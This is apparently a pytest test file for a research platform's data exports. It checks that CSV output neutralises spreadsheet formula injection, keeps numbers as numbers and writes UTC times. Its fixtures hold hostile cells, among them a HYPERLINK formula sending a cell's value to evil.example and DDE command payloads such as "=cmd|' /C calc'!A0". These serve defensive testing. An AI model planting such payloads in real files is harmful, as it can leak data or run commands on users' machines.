"""Exports safe to open in a spreadsheet: participant- and model-controlled text that a spreadsheet would run as
a formula is neutralised in every CSV; numbers stay numbers; times are ISO 8601 UTC."""
from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import datetime, timezone
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rose_core.instrument.exports import export_table, table_frame, table_rows
from rose_core.common.csv_safety import formula_like, frame_bytes, harness_tsv_bytes, neutralise
from rose_core.instrument.ids import FakeClock, SequentialIds
from rose_core.runs.importer import import_run
from rose_core.instrument.study import StudyConfig, create_study
from tests.participants import new_session, right_answer, submit_payload
from tests.sgp_players import sgp_small  # noqa: F401  (the fixture)

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "﹦1", "\u2212 1+1"]
HARMLESS = ["-3", "+4", "-3.5e2", "12", "plain", "CLICK(R2,C3); DONE", "a=b", "", "x-1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def opens_as_formula(cell: str) -> bool:
    """What a spreadsheet would do with the cell as read back from the CSV."""
    s = unicodedata.normalize("NFKC", cell)
    first = s.lstrip()[:1]
    return bool(s) and (s[0] in "\t\r" or (first != "" and first in "=+-@\u2212"
                                            and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell.strip())))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised(text):
    assert formula_like(text) and neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_kept(text):
    assert not formula_like(text) and neutralise(text) == text


def test_frame_bytes_neutralises_text_cells_and_keeps_numbers():
    df = pd.DataFrame({"text": HOSTILE + HARMLESS, "n": range(-5, len(HOSTILE) + len(HARMLESS) - 5),
                       "x": [-1.5] * (len(HOSTILE) + len(HARMLESS))})
    rows = cells(frame_bytes(df, "csv"))
    assert rows[0] == ["text", "n", "x"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE] + HARMLESS  # CR and tab survive, quoted
    assert [int(r[1]) for r in body] == list(df["n"]) and {r[2] for r in body} == {"-1.5"}  # numbers as numbers
    assert not any(opens_as_formula(c) for r in rows for c in r[:1])
    back = pd.read_csv(io.BytesIO(frame_bytes(df, "csv")))
    assert back["n"].tolist() == df["n"].tolist() and back["n"].dtype.kind == "i"


def test_column_names_and_object_columns_with_mixed_values():
    df = pd.DataFrame({"=evil": ["=1", 3, None, -2.0, "-2"]}, dtype=object)
    rows = cells(frame_bytes(df, "csv"))
    assert rows == [["'=evil"], ["'=1"], ["3"], [""], ["-2.0"], ["-2"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_no_text_read_back_from_a_csv_opens_as_a_formula(texts):
    rows = cells(frame_bytes(pd.DataFrame({"t": texts}), "csv"))[1:]
    for original, (cell,) in zip(texts, rows):
        assert not opens_as_formula(cell), (original, cell)
        assert cell in (original, "'" + original)


def test_parquet_keeps_the_raw_text():
    df = pd.DataFrame({"t": HOSTILE})
    assert pd.read_parquet(io.BytesIO(frame_bytes(df, "parquet")))["t"].tolist() == HOSTILE


def test_harness_tsv_is_verbatim_and_refuses_a_formula_cell():
    ok = pd.DataFrame({"index": [0, 1], "question": ["Count the odd cells.", "a - b is text"]})
    assert harness_tsv_bytes(ok).decode().splitlines() == ["index\tquestion", "0\tCount the odd cells.",
                                                           "1\ta - b is text"]
    with pytest.raises(ValueError, match="column 'question', row 2: '=1\\+1' would open as a spreadsheet formula"):
        harness_tsv_bytes(pd.DataFrame({"question": ["fine", "=1+1"]}))


def test_the_vlmevalkit_export_of_the_dataset_has_no_formula_cell(small_dataset, tmp_path):
    from rose_core.benchmarks.rose.harness_export import export_dataset

    n = export_dataset(small_dataset, "vlmevalkit", tmp_path / "rose.tsv")
    df = pd.read_csv(tmp_path / "rose.tsv", sep="\t", dtype=str, keep_default_na=False)
    assert len(df) == n and not df.map(formula_like).any().any()


def test_every_csv_the_project_writes_goes_through_frame_bytes():
    """One CSV encoder: no other module calls to_csv or the csv module's writers."""
    offenders = []
    for path in [*ROOT.glob("*.py"), *(p for d in ("rose_core", "ui", "app_pages", "tools", "bench")
                                       for p in (ROOT / d).rglob("*.py"))]:
        text = path.read_text()
        if path.name != "exports.py" and re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- the real tables -------------------------------------------------------------------------------------------

EVIL_PID = '=HYPERLINK("http://evil.example","open me")'


@pytest.fixture
def hostile_db(small_dataset, store, tmp_path):
    """A study whose participant id and typed count are formulas, and a model run whose answers are (on both
    storage backends)."""
    clock = FakeClock()
    study = create_study(store, small_dataset, StudyConfig(
        name="hostile", split="all", templates=["T1"], practice_items=0, attention_every=0, items_per_participant=1,
        seed=3), ids=SequentialIds("st"), clock=clock)
    s = new_session(store, small_dataset, study, EVIL_PID, clock=clock)
    screen = s.screen()
    cells_, count = right_answer(screen)
    payload = submit_payload(screen, cells_, count)
    payload["events"] += [{"seq": len(payload["events"]), "type": "count_input", "value": "@SUM(A1)", "t": 5000.0,
                           "active_ms": 5000.0},
                          {"seq": len(payload["events"]) + 1, "type": "count_input", "value": "-3", "t": 5100.0,
                           "active_ms": 5100.0}]
    s.submit(screen, payload)
    run = tmp_path / "run.jsonl"
    answers = ["=cmd|' /C calc'!A0", "+SUM(1)", "-2+3", "@x"]
    run.write_text("".join(json.dumps({"instance_id": i.instance_id, "response": answers[k % 4],
                                       "dataset_hash": small_dataset.dataset_hash}) + "\n"
                           for k, i in enumerate(small_dataset.instances.values())))
    import_run(store, small_dataset, run, "evil-model")
    return store, study


def test_responses_and_events_exports_are_safe_and_timed_in_utc(hostile_db, tmp_path):
    store, study = hostile_db
    for table in ("responses", "events"):
        out = tmp_path / f"{table}.csv"
        n = export_table(store, table, "csv", out)
        rows = cells(out.read_bytes())
        assert len(rows) == n + 1 > 1
        header, body = rows[0], rows[1:]
        assert not any(opens_as_formula(c) for r in rows for c in r), table
        col = {name: [r[k] for r in body] for k, name in enumerate(header)}
        if table == "responses":
            assert f"'{EVIL_PID}" in col["external_id"]
            assert {"'=cmd|' /C calc'!A0", "'+SUM(1)", "'-2+3", "'@x"} <= set(col["response"])
            stamp, utc = "submitted_at_utc", store.query("SELECT submitted_at FROM responses ORDER BY response_id")
            assert {"total_ms", "first_action_ms", "active_ms", "client_total_ms"} <= set(header)
            assert "submitted_at" not in header
            key = "submitted_at"
        else:
            assert "'@SUM(A1)" in col["value"] and "-3" in col["value"]  # a typed number is not a formula
            assert {"client_ms_since_shown", "active_ms"} <= set(header) and "client_ts" not in header
            assert all(int(v) >= 1 for v in col["row"] if v)  # row numbers stay numbers
            stamp, key = "server_at_utc", "server_ts"
            utc = store.query("SELECT server_ts FROM events ORDER BY participant_id, server_ts, seq")
        for text, row in zip(col[stamp], utc):
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", text), text
            parsed = datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
            assert abs(parsed.timestamp() - row[key]) < 1e-5


def test_parquet_export_has_utc_timestamps_and_raw_text(hostile_db, tmp_path):
    store, study = hostile_db
    out = tmp_path / "r.parquet"
    export_table(store, "responses", "parquet", out, study.study_id)
    df = pd.read_parquet(out)
    assert list(df["external_id"]) == [EVIL_PID]
    assert str(df["submitted_at_utc"].dt.tz) == "UTC"


def test_a_study_s_download_keeps_only_its_rows_and_is_neutralised(hostile_db):
    store, study = hostile_db  # what the Studies page's CSV button sends
    df = table_frame(store, "responses", study.study_id)
    rows = cells(frame_bytes(df, "csv"))
    assert len(rows) == 2 and rows[1][rows[0].index("external_id")] == "'" + EVIL_PID


def test_the_row_counts_the_studies_page_shows_are_the_exports_rows(hostile_db):
    """The page shows `table_rows` and builds the file only when it is downloaded: the count is the file's."""
    store, study = hostile_db
    for table in ("responses", "events"):
        for sid in (study.study_id, None, "no-such-study"):
            assert table_rows(store, table, sid) == len(table_frame(store, table, sid)), (table, sid)
    assert table_rows(store, "responses", study.study_id) == 1 < table_rows(store, "responses")
    assert table_rows(store, "events", "no-such-study") == 0


def test_episode_tables_export_as_the_studies_page_downloads_them(store, sgp_small, tmp_path):  # noqa: F811
    """`export-table --table episode_results|episode_steps`: the frame the Studies page's SGP buttons send, through
    the one CSV encoder: a typed command a spreadsheet would run is neutralised, times in UTC."""
    import subprocess
    import sys

    from rose_core.instrument.episode_session import EpisodeSession, create_sgp_study
    from rose_core.instrument.session import join
    from tests.sgp_players import play, solution

    study = create_sgp_study(store, sgp_small, StudyConfig(
        name="typed", benchmark="sgp", sgp_modality="text", sgp_input="typed", practice_items=0,
        attention_every=0, items_per_participant=1), ids=SequentialIds("x"), clock=FakeClock())
    p = join(store, study, "=HYPERLINK(\"http://evil\")", "prolific", None, None, ids=SequentialIds("p"))
    s = EpisodeSession(store, sgp_small, study, p.participant_id)
    s.consent()
    s.finish_instructions()
    screen = s.screen()
    play(s, screen, ["=cmd|' /C calc'!A0", *solution(screen)], how="typed")
    steps = store.query("SELECT server_ts FROM episode_steps ORDER BY run_id, participant_id, view_id, seq")
    for table in ("episode_results", "episode_steps"):
        for fmt in ("csv", "parquet"):
            out = tmp_path / f"{table}.{fmt}"
            r = subprocess.run([sys.executable, "-m", "rose_core", "export-table", "--db", store.location, "--table",
                                table, "--format", fmt, "--study", study.study_id, "--out", str(out)],
                               capture_output=True, text=True, cwd=ROOT)
            assert r.returncode == 0, r.stderr
            assert out.read_bytes() == frame_bytes(table_frame(store, table, study.study_id), fmt)  # the page's bytes
        rows = cells((tmp_path / f"{table}.csv").read_bytes())
        assert table_rows(store, table, study.study_id) == len(rows) - 1 == table_rows(store, table)  # the page's count
        assert not any(opens_as_formula(c) for row in rows for c in row), table
        col = {name: [r[k] for r in rows[1:]] for k, name in enumerate(rows[0])}
        assert set(col["study_id"]) == {study.study_id} and set(col["external_id"]) == {"'=HYPERLINK(\"http://evil\")"}
        if table == "episode_results":
            assert len(rows) == 2 and col["passed"] == ["1"] and "submitted_at_utc" in col
            assert col["steps"] == [str(len(steps))] and col["response"][0].startswith("'=cmd")
        else:
            assert len(rows) == len(steps) + 1 and col["command"][0] == "'=cmd|' /C calc'!A0"
            assert col["outcome"][0] == "illegal" and col["input"] == ["typed"] * len(steps)
            for text, row in zip(col["server_at_utc"], steps):
                parsed = datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
                assert abs(parsed.timestamp() - row["server_ts"]) < 1e-5
    assert len(table_frame(store, "episode_steps")) == len(steps)                    # every study
    empty = table_frame(store, "episode_results", "no-such-study")
    assert empty.empty and "episode_id" in empty.columns                           # a header, no rows
    assert table_rows(store, "episode_results", "no-such-study") == 0
